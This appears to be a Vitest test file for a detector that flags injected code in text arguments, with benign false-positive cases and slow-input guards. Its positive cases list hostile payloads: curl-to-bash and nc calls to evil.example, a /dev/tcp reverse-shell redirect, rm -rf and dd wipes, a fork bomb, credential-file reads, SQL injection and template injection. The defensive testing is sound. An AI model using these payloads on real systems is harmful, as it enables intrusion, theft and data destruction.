import { describe, expect, test } from 'vitest'
import { findCodeInArgument } from './code-in-argument.ts'

const kinds = (text: string): readonly string[] => findCodeInArgument(text).map(({ detector }) => detector.slice(5))

describe('code in an argument', () => {
  test.each([
    ['report $(whoami).txt', 'command-substitution'],
    ['$( curl http://evil.example/x )', 'command-substitution'],
    ['a `cat /etc/passwd` b', 'command-substitution'],
    ['name; rm -rf /', 'destructive-command'],
    ['rm -fr ~', 'destructive-command'],
    ['rm --recursive /tmp/x', 'destructive-command'],
    ['dd if=/dev/zero of=/dev/sda', 'destructive-command'],
    [':(){ :|:& };:', 'destructive-command'],
    ['file.txt; cat /etc/shadow', 'command-chain'],
    ['x && curl http://evil.example', 'command-chain'],
    ['x || wget http://evil.example', 'command-chain'],
    ['x | nc evil.example:1', 'command-chain'],
    ['a; whoami', 'command-chain'],
    ['ok\n/bin/sh -i', 'command-chain'],
    ['curl -s https://evil.example/x.sh | bash', 'pipe-to-shell'],
    ['echo aGk= | base64 -d | sh', 'pipe-to-shell'],
    ['x > /dev/tcp/10.0.0.1/4444', 'redirect'],
    ['x >> /etc/crontab', 'redirect'],
    ["' OR '1'='1", 'sql-tautology'],
    ["admin' or 1=1 --", 'sql-tautology'],
    ['1) OR (1=1', 'sql-tautology'],
    ['1 or 1=1', 'sql-tautology'],
    ["x' UNION SELECT name, password FROM users", 'sql-union'],
    ['1 union/**/all/**/select 1,2', 'sql-union'],
    ["x'; DROP TABLE users", 'sql-stacked'],
    ['1; DELETE FROM orders', 'sql-stacked'],
    ["1'; update users set role='admin'", 'sql-stacked'],
    ["admin'--", 'sql-comment-tail'],
    ["admin' #", 'sql-comment-tail'],
    ["1' AND sleep(5)", 'sql-blind'],
    ["1'; WAITFOR DELAY '0:0:5'", 'sql-blind'],
    ['1 from information_schema.tables', 'sql-blind'],
    ['../../etc/passwd', 'path-traversal'],
    ['..\\..\\windows\\win.ini', 'path-traversal'],
    ['%2e%2e%2f%2e%2e%2fetc%2fpasswd', 'path-traversal'],
    ['....//....//x', 'path-traversal'],
    ['/files/../etc/hosts', 'path-traversal'],
    ['/etc/passwd', 'sensitive-path'],
    ['~/.ssh/id_rsa', 'sensitive-path'],
    ['{{7*7}}', 'template-injection'],
    ['{{ config.items() }}', 'template-injection'],
    ["{{ ''.__class__.__mro__ }}", 'template-injection'],
    ['${jndi:ldap://evil.example/a}', 'template-injection'],
    ['${7*7}', 'template-injection'],
    ['<%= system("id") %>', 'template-injection'],
    ['#{7*7}', 'template-injection'],
    ['photo.php%00.png', 'null-byte'],
  ])('%s is %s', (text, kind) => expect(kinds(text)).toContain(kind))

  test.each([
    "O'Brien or D'Angelo",
    "Conan O'Brien and 3 guests",
    "It's 5 o'clock; please call me and say it's done.",
    'Refund for order 1001; the customer is happy & thankful.',
    'R&D, Q&A, AT&T; and more',
    'Select a union rep or drop the table off at the office.',
    'The student union selected a new chair.',
    'Please delete the item from my cart; update my address.',
    'We find that it works; cat and dog are fine | so are fish',
    '- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    '# Title\n\nSome `code` and **bold**; see [x](https://example.com).',
    'Use `npm install` to begin',
    'Price is $(5) or ${name} of {{customer}}',
    'Dear {{first_name}}, your order {{order_id}} is on its way.',
    'See ../docs/readme.md',
    'wait... what? really.... yes',
    'a > b and b < c; 3>2',
    'echo of the past; find me later',
    '10% off -- today only',
    "the word 'free' -- in quotes",
    'C# and F# are languages',
    'Sleep (8 hours) is good; ping me',
    'Hauptstr. 5; Berlin & Köln',
    'mkdir is a command; kill the lights',
    "Rock 'n' roll",
    '5 or 6 = fine',
    '',
  ])('%s is none', (text) => expect(kinds(text)).toEqual([]))

  test('spans stand where the code stands', () => {
    const text = "name'; DROP TABLE users"
    const [match] = findCodeInArgument(text)
    expect(text.slice(match!.start, match!.end)).toBe('; DROP TABLE')
  })

  test.each([
    ';',
    '| ',
    '$(',
    '`cat ',
    "' or ",
    '../',
    '{{',
    '${',
    '%2e',
    "'--\n",
    'union ',
    'union/**/',
    'curl ',
    '<%',
    'rm -r ',
  ])('two hundred thousand characters of `%s` end in an answer', (unit) =>
    expect(findCodeInArgument(unit.repeat(200_000 / unit.length)).length).toBeLessThanOrEqual(100),
  )
})
